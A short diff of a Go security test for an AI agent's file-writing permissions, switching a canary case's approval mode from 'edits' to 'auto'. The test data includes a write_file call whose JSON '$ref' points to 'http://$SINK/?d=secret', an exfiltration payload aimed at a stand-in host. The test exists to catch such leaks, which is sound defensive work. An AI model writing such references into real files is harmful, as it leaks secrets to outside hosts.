@@ -285,7 +285,7 @@ func TestSEC22AnAddressInASchema(t *testing.T) {
 		"$ref": {Tool: "write_file", Args: canary.Args{"file_path": "x.json", "content": `{"a": {"$ref": "http://$SINK/?d=secret"}}`}},
 	} {
 		canary.Hold(t, canary.Case{
-			Name: name, Args: []string{"--approve", "edits"}, Calls: []canary.Call{call}, Canary: []string{"work/x.json", "work/x.yaml"},
+			Name: name, Args: []string{"--approve", "auto"}, Calls: []canary.Call{call}, Canary: []string{"work/x.json", "work/x.yaml"},
 		})
 	}
 }
